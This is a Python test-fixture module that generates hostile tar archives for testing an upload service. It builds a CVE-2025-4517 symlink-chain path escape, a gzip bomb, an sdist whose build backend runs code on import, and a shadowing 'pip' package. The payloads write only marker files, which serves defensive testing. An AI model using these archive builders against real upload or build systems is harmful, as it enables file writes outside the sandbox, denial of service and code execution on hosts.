"""Hostile and benign tar archives for the upload tests (``from archives import ...``).

Built with :mod:`tarfile`'s writer, which writes whatever it is told (links, devices,
``..`` names): the tests need the attacks byte for byte, not a safe archive.
"""

from __future__ import annotations

import io
import os
import tarfile
import zlib
from dataclasses import dataclass

SPEC = b"name: evil\nhandler: handler:handle\n"
HANDLER = b"def handle(request):\n    return 'hi'\n"


@dataclass
class M:
    """One member: ``kind`` file|dir|symlink|hardlink|chr|blk|fifo."""

    name: str
    kind: str = "file"
    data: bytes = b""
    link: str = ""
    mode: int | None = None


_TYPES = {
    "file": tarfile.REGTYPE,
    "dir": tarfile.DIRTYPE,
    "symlink": tarfile.SYMTYPE,
    "hardlink": tarfile.LNKTYPE,
    "chr": tarfile.CHRTYPE,
    "blk": tarfile.BLKTYPE,
    "fifo": tarfile.FIFOTYPE,
}


def tar(
    members: list[M], *, gz: bool = True, fmt: int = tarfile.PAX_FORMAT, end: bool = True
) -> bytes:
    """The members as a tar (gzip-compressed unless ``gz=False``; ``end=False``: plain,
    without the end-of-archive blocks, for appending more)."""
    buf = io.BytesIO()
    t = tarfile.open(fileobj=buf, mode="w:gz" if gz and end else "w", format=fmt)
    with t:
        for m in members:
            info = tarfile.TarInfo(m.name)
            info.type = _TYPES[m.kind]
            info.mode = m.mode if m.mode is not None else (0o755 if m.kind == "dir" else 0o644)
            info.linkname = m.link
            if m.kind == "file":
                info.size = len(m.data)
                t.addfile(info, io.BytesIO(m.data))
            else:
                t.addfile(info)
        stop = t.offset
    return buf.getvalue() if end else buf.getvalue()[:stop]


def function(*extra: M, gz: bool = True) -> bytes:
    """A valid function folder (torpor.yaml + handler.py) plus ``extra`` members."""
    return tar([M("torpor.yaml", data=SPEC), M("handler.py", data=HANDLER), *extra], gz=gz)


def cve_2025_4517(dest: str) -> bytes:
    """The link chain of CVE-2025-4517 (CPython's test_realpath_limit_attack) for an
    extraction into ``dest``: symlinks whose expansion overflows PATH_MAX, so
    ``os.path.realpath`` stops resolving and tarfile's ``data`` filter lets ``escape``
    point at ``dest/..``; then ``escape/newfile`` is written beside ``dest``."""
    steps = "abcdefghijklmnop"
    max_path = os.pathconf("/", "PC_PATH_MAX")
    component = "d" * ((max_path - len(dest) - 1) // (len(steps) + 1))
    members: list[M] = [M("torpor.yaml", data=SPEC), M("handler.py", data=HANDLER)]
    path = ""
    for step in steps:
        members.append(M(os.path.join(path, component), kind="dir", mode=0o777))
        members.append(M(os.path.join(path, step), kind="symlink", link=component))
        path = os.path.join(path, component)
    linkpath = os.path.join(*steps, "l" * 254)
    members.append(M(linkpath, kind="symlink", link=os.path.join(*[".."] * len(steps))))
    members.append(M("escape", kind="symlink", link=os.path.join(linkpath, "..")))
    members.append(M("escape/newfile", data=b"written outside the upload"))
    return tar(members)


def gzip_bomb(size: int, name: str = "big.bin") -> bytes:
    """A valid function whose ``name`` is ``size`` zero bytes: a few KiB compressed.
    Built by compressing the tar stream chunk by chunk (never ``size`` bytes in memory)."""
    head = tarfile.TarInfo(name)
    head.size = size
    head.mode = 0o644
    prefix = tar([M("torpor.yaml", data=SPEC), M("handler.py", data=HANDLER)], end=False)
    comp = zlib.compressobj(9, zlib.DEFLATED, 31)  # gzip framing
    out = [comp.compress(prefix + head.tobuf(tarfile.PAX_FORMAT))]
    zeros = bytes(1 << 20)
    left = size + (-size % 512) + 1024  # data, padding, end-of-archive
    while left:
        n = min(left, len(zeros))
        out.append(comp.compress(zeros[:n]))
        left -= n
    out.append(comp.flush())
    return b"".join(out)


def sdist(marker: str, name: str = "p", version: str = "1.0") -> bytes:
    """An sdist ``NAME-VERSION.tar.gz`` whose in-tree build backend writes ``marker``
    the moment pip imports it (no setuptools needed, nothing downloaded): if the file
    appears, the upload's code ran on the host."""
    backend = (
        "import pathlib\n"
        f"pathlib.Path({marker!r}).write_text('built on the host')\n"
        "def get_requires_for_build_wheel(config_settings=None):\n    return []\n"
        "def get_requires_for_build_sdist(config_settings=None):\n    return []\n"
        "def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n"
        "    raise RuntimeError('this sdist only proves that it was built')\n"
    )
    pyproject = (
        '[build-system]\nrequires = []\nbuild-backend = "evil_backend"\nbackend-path = ["."]\n'
        f'[project]\nname = "{name}"\nversion = "{version}"\n'
    )
    top = f"{name}-{version}"
    return tar(
        [
            M(f"{top}/pyproject.toml", data=pyproject.encode()),
            M(f"{top}/evil_backend.py", data=backend.encode()),
            M(
                f"{top}/PKG-INFO",
                data=f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode(),
            ),
        ]
    )


def pip_shadow(marker: str) -> dict[str, str]:
    """Files of a ``pip`` package in the upload: it runs if pip is started with the
    upload's folder on ``sys.path`` (``python -m pip`` from that directory)."""
    code = f"import pathlib\npathlib.Path({marker!r}).write_text('the upload ran as pip')\n"
    return {"pip/__init__.py": code, "pip/__main__.py": code}
